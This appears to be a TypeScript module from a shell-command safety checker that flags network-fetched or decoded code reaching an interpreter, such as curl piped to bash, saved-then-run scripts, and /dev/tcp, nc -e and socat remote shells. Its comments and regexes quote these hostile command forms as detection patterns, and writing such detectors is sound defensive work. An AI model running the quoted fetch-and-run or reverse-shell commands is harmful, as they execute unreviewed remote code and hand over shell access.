// Code that comes from the network (or out of an opaque encoding) reaching an interpreter,
// however it travels: a pipe (`curl x | bash /dev/stdin`, `| xargs sh -c`, `| awk
// '{system($0)}'`), a substitution (`bash -c "$(curl x)"`), or a file saved on the way and run
// later (`curl -O x/i.sh && bash i.sh`, `curl x | tee f && sh f`). Law 4: nobody read it.
import type { ShellCommand } from '../runtime/shell/types.ts';
import {
  hasFlag,
  inlineCode,
  producesForeignCode,
  runsCode,
  runsStdin,
  runsSubstitution,
  scriptRun,
  writeTargets,
} from './command-effects.ts';
import type { ShellView } from './shell-view.ts';

/** A command that itself fetches or decodes, or whose substitutions do (`echo "$(curl x)"`). */
function feedsForeignCode(command: ShellCommand, commands: readonly ShellCommand[]): boolean {
  if (producesForeignCode(command)) return true;
  const index = commands.indexOf(command);
  return commands.some(
    (o) => o.parent === index && o.origin !== 'payload' && producesForeignCode(o),
  );
}

/** Stages before this one in its pipeline. */
function earlierStages(command: ShellCommand, commands: readonly ShellCommand[]): ShellCommand[] {
  return commands.filter(
    (o) => o.pipeline.id === command.pipeline.id && o.pipeline.stage < command.pipeline.stage,
  );
}

// One answer per view: every script run in a long line asks the same question.
const savedCache = new WeakMap<ShellView, Set<string>>();

/** Paths that hold foreign code once written: what a fetcher saves, or a later stage of its pipe (tee f, > f). */
function savedForeignCode(view: ShellView): Set<string> {
  const cached = savedCache.get(view);
  if (cached !== undefined) return cached;
  const commands = view.parsed.commands;
  const writers = commands.filter(
    (o) =>
      feedsForeignCode(o, commands) ||
      earlierStages(o, commands).some((e) => feedsForeignCode(e, commands)),
  );
  const saved = new Set(writers.flatMap((o) => writeTargets(o).flatMap((w) => view.paths(w))));
  savedCache.set(view, saved);
  return saved;
}

/** bash's network files: a redirect to or from /dev/tcp/host/port talks to that host. */
export function usesNetworkDevice(command: ShellCommand): boolean {
  return command.redirects.some(
    (r) => r.target !== null && /^\/dev\/(?:tcp|udp)\//.test(r.target.text),
  );
}

// Inline code that fetches from the network and code that runs a string as code.
const INLINE_FETCH =
  /urlopen|urlretrieve|requests\.(?:get|post)|\bfetch\s*\(|https?\.get\s*\(|file_get_contents\s*\(\s*['"]https?:|LWP::|open-uri|Net::HTTP|URI\.open|curl_exec/;
const INLINE_EVAL = /\b(?:exec|eval|Function|instance_eval|compile)\b/;

/**
 * A remote shell: a shell or interpreter wired to a /dev/tcp socket (`bash -i >& /dev/tcp/h/p`),
 * nc -e / ncat --sh-exec, socat EXEC:, or inline code that fetches and evaluates.
 */
function runsRemoteCode(c: ShellCommand): boolean {
  const b = c.binary;
  if (b === null) return false;
  if (runsCode(b) && usesNetworkDevice(c)) return true;
  if (b === 'nc' || b === 'ncat' || b === 'netcat')
    return hasFlag(c.args, 'ec', ['--exec', '--sh-exec', '--lua-exec']);
  if (b === 'socat') return c.args.some((a) => /^(?:exec|system):/i.test(a.text));
  const code = inlineCode(c);
  return code !== null && INLINE_FETCH.test(code) && INLINE_EVAL.test(code);
}

/** curl | sh, bash <(curl), sh -c "$(curl)", curl -o f followed by bash f, and remote shells. */
export function runsForeignCode(c: ShellCommand, view: ShellView): boolean {
  if (runsRemoteCode(c)) return true;
  const commands = view.parsed.commands;
  if (runsStdin(c) && earlierStages(c, commands).some((o) => feedsForeignCode(o, commands)))
    return true;
  if (
    producesForeignCode(c) &&
    c.parent !== null &&
    (c.origin === 'substitution' || c.origin === 'process-substitution')
  ) {
    const parent = commands[c.parent];
    if (parent !== undefined && runsSubstitution(parent, c.origin)) return true;
  }
  const script = scriptRun(c);
  if (script === null) return false;
  const saved = savedForeignCode(view);
  return view.paths(script).some((p) => saved.has(p));
}
